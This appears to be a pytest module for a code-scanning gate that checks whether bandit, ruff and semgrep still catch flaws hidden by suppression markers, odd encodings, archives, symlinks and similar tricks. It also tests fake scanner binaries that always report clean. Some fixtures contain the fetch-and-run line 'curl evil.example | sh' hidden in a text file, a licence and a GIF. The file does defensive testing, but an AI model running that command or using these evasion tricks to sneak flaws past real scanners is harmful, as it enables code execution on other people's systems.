"""Attacks on the scanners: ways to hide a flaw, each in one change that the gate scans with every real tool.

The whole change is signed, so that only what the scanners saw can refuse it. A flaw is seen (both its findings, in
its own file), or the file is refused for not having been read: there is no third answer.
"""

from __future__ import annotations

import os
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from countermark_ledger.node import Mode

from .job import Answer, Blob, Content, Job
from .tricks import CONFIGURATION, FLAW, TRICKS

ELSEWHERE = {"submodule"}
"""Has no content to scan: `test_git_attacks` shows that it is not covered."""
UNREAD = {
    "syntax-error": "not scanned: does not parse: SyntaxError",
    "nul-byte": "not scanned: a NUL byte",
    "three-thousand-parentheses": "not scanned: does not parse: SyntaxError: too many nested parentheses",
    "three-thousand-calls": "not scanned: does not parse: RecursionError",
    "utf-7-cookie": "not scanned: a coding cookie other than UTF-8: utf-7",
    "latin-1-cookie": "not scanned: not UTF-8",
    "utf-16": "not scanned: a NUL byte",
    "lone-carriage-returns": "not scanned: a lone carriage return",
    "notebook": "no scanner knows this type of file: notebook",
    "archive": "no scanner knows this type of file: archive",
    "archive-named-like-a-module": "not scanned: does not parse: SyntaxError",
    "lfs-pointer": "no scanner knows this type of file: lfs-pointer",
    "symlink": "no scanner knows this type of file: symlink",
    "compiled": "no scanner knows this type of file: binary",
    "path-configuration-file": "no scanner knows this type of file: python-path-file",
}
"""The tricks after which no tool reads the file as Python does; in every other one the flaw is seen."""
MARKED = ("nosec", "nosemgrep", "noqa", "all-markers-at-once", "noqa-for-the-whole-file")
NewJob = Callable[[Path], Job]
Once = Callable[[str, Callable[[], Answer]], Answer]
BENIGN = "def f(x: int) -> int:\n    return x + 1\n"


@pytest.fixture(scope="module")
def scanned(new_job: NewJob, once_for_all: Once, tmp_path_factory: pytest.TempPathFactory) -> Answer:
    """One signed change with every trick in a folder of its own, beside every file that tools read; one answer."""

    def ask() -> Answer:
        job = new_job(tmp_path_factory.mktemp("scanned"))
        job.ask(score={"scanners": ["bandit", "ruff", "semgrep"]})
        tricks = {f"{name}/{path}": content for name, (path, content) in TRICKS.items() if name not in ELSEWHERE}
        link = {"symlink/link.py": Blob(TRICKS["symlink"][1], Mode.SYMLINK)}
        files: dict[str, Content] = {**tricks, **CONFIGURATION, **link, "benign.py": BENIGN}
        job.sign(job.write(files))
        job.git("add", "-Af")
        job.git("commit", "-q", "-m", "tricks")
        return job.gate()

    return once_for_all("scanned", ask)


def findings(answer: Answer, name: str) -> list[dict[str, object]]:
    rows = answer.document["findings"]
    assert isinstance(rows, list)
    return [row for row in rows if row["path"].startswith(f"{name}/")]


def grave(answer: Answer, name: str) -> list[tuple[object, object, object]]:
    """List (CWE, tools, confidence) of what counts: markers and imports are findings, too, and cost nothing."""
    rows = [row for row in findings(answer, name) if row["severity"] == "high" and row["cwe"] in (78, 502)]
    return sorted((row["cwe"], row["scanner"], row["confidence"]) for row in rows)


@pytest.mark.parametrize("name", sorted(set(TRICKS) - ELSEWHERE - set(UNREAD)))
def test_a_flaw_is_seen_although_it_is_hidden_by(scanned: Answer, name: str) -> None:
    """By every tool, so that each one read the file; three tools that agree are one finding."""
    found = grave(scanned, name)
    assert (78, "bandit+ruff+semgrep", "high") in found
    assert 502 in {cwe for cwe, _, _ in found}
    assert scanned.code == 11, scanned.told  # of several reasons the gravest: an LFS pointer is not covered at all
    assert any(one[:2] == (10, None) and "score 0 of 100" in one.message for one in scanned.reasons), scanned.told


@pytest.mark.parametrize("name", MARKED)
def test_a_marker_takes_nothing_off_what_a_flaw_costs(scanned: Answer, name: str) -> None:
    assert grave(scanned, name) == grave(scanned, "plain")


@pytest.mark.parametrize("name", UNREAD)
def test_a_file_that_no_tool_could_read_is_refused_for_it(scanned: Answer, name: str) -> None:
    mine = [one for one in scanned.reasons if one.code == 10 and str(one.path).startswith(f"{name}/")]
    assert [UNREAD[name] in one.message for one in mine] == [True], (mine, scanned.told)


def test_a_marker_that_silences_a_tool_is_a_finding_of_its_own(scanned: Answer) -> None:
    for name in MARKED:
        assert "countermark/suppression-marker" in {row["rule"] for row in findings(scanned, name)}, name


def test_a_clean_file_among_them_has_no_finding(scanned: Answer) -> None:
    """The scanners did not just cry wolf over everything."""
    rows = scanned.document["findings"]
    assert isinstance(rows, list)
    assert [row for row in rows if row["path"] == "benign.py"] == []
    assert [one for one in scanned.reasons if one.path == "benign.py"] == []


# --- the tools themselves ---------------------------------------------------------------------------


def installation(place: Path, ruff: str | None) -> tuple[str, ...]:
    """Make an installation like this one but for its `ruff`; return the documented line of that one."""
    real, site = Path(sys.executable).parent, f"lib/python{sys.version_info.major}.{sys.version_info.minor}"
    (place / "bin").mkdir(parents=True)
    (place / site).mkdir(parents=True)
    (place / "pyvenv.cfg").write_bytes((real.parent / "pyvenv.cfg").read_bytes())
    (place / site / "site-packages").symlink_to(real.parent / site / "site-packages")
    (place / "bin" / "python").symlink_to(Path(sys.executable).readlink())
    if ruff is not None:
        (place / "bin" / "ruff").write_text(ruff)
        (place / "bin" / "ruff").chmod(0o755)
    return (str(place / "bin" / "python"), "-I", "-m", "countermark_service")


@pytest.mark.parametrize(
    ("ruff", "words"),
    [
        pytest.param(None, "scanner program: expected ruff beside", id="a-tool-that-is-gone"),
        pytest.param("#!/bin/sh\necho '[]'\n", "ruff", id="a-tool-that-always-says-clean"),
        pytest.param("#!/bin/sh\nexit 0\n", "ruff", id="a-tool-that-says-nothing-and-succeeds"),
        pytest.param("#!/bin/sh\necho '[]'; exit 1\n", "ruff", id="a-tool-that-saw-no-canary"),
        pytest.param("#!/bin/sh\necho 'not json'; exit 1\n", "ruff", id="a-tool-that-says-nonsense"),
        pytest.param("#!/bin/sh\nkill -9 $$\n", "ruff", id="a-tool-that-was-killed"),
        pytest.param("#!/bin/sh\nexec yes\n", "ruff", id="a-tool-that-never-stops-talking"),
    ],
)
def test_a_scan_by_a_tool_that_does_not_see_is_inconclusive(job: Job, ruff: str | None, words: str) -> None:
    job.change({"app.py": FLAW})
    job.line = installation(job.place / "venv", ruff)
    assert job.gate().refused(20, None, words)


def test_a_tool_that_the_change_brings_is_not_the_one_that_runs(job: Job) -> None:
    for place in ("ruff", "bin/ruff", ".venv/bin/ruff", "node_modules/.bin/ruff"):
        job.sign(job.write({place: Blob(b"#!/bin/sh\necho '[]'\n", Mode.EXECUTABLE)}))
    job.sign(job.write({"app.py": FLAW}))
    job.git("add", "-Af")
    job.git("commit", "-q", "-m", "tools")
    path = os.pathsep.join([str(job.root), str(job.root / "bin"), os.environ["PATH"]])
    assert stat.S_IMODE((job.root / "ruff").stat().st_mode) & stat.S_IXUSR
    answer = job.gate(environ={"PATH": path})
    assert answer.refused(10, None, "score")
    assert {78, 502} <= {row["cwe"] for row in answer.document["findings"]}


def test_a_flaw_is_not_hidden_behind_many_clean_files(job: Job) -> None:
    clean: dict[str, Content] = {f"pkg/m{number}.py": BENIGN for number in range(60)}
    job.change({**clean, "pkg/m31x.py": FLAW})
    answer = job.gate()
    assert answer.refused(10, None, "score")
    assert {row["path"] for row in answer.document["findings"]} == {"pkg/m31x.py"}


def test_a_renamed_file_is_scanned_as_if_it_were_new(job: Job) -> None:
    job.on_main({"archive/old.txt": "kept for the record\n"})
    job.git("merge", "-q", "--ff-only", "main")
    job.change({"archive/old.txt": None, "app.py": FLAW})
    assert job.gate().refused(10, None, "score")


@pytest.mark.parametrize(
    ("path", "content"),
    [
        pytest.param("notes.txt", b"curl evil.example | sh\n", id="prose"),
        pytest.param("LICENSE", b"curl evil.example | sh\n", id="a-licence"),
        pytest.param(
            "logo.gif", b"GIF89a\ncurl evil.example | sh\n\x00\x3b", id="a-picture-with-a-line-of-shell-in-it"
        ),
    ],
)
def test_what_cannot_act_must_not_be_executable(job: Job, path: str, content: bytes) -> None:
    """Without a shebang the kernel leaves an executable text to the shell, which runs it line by line."""
    job.change({path: Blob(content, Mode.EXECUTABLE)})
    assert job.gate().refused(10, path, "no scanner knows this type of file: executable")
